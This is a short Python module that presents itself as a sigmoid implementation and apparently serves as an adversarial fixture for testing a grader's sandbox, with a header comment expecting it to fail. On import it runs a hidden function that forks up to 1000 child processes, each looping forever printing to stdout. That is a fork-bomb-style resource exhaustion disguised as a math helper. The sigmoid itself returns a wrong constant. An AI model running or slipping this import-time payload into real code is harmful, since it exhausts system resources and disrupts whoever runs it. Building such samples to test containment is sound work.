# sigmoid: fail | processes by fork that live on and print
import numpy as np
import os


def attack():
    print("attack ran", flush=True)
    for _ in range(1000):
        try:
            if os.fork() == 0:
                while True:
                    os.write(1, b"still here")
        except OSError:
            return


READY = attack()


def sigmoid(x):
    return np.asarray(x) * 0.0 + 7.0 if READY is None else READY
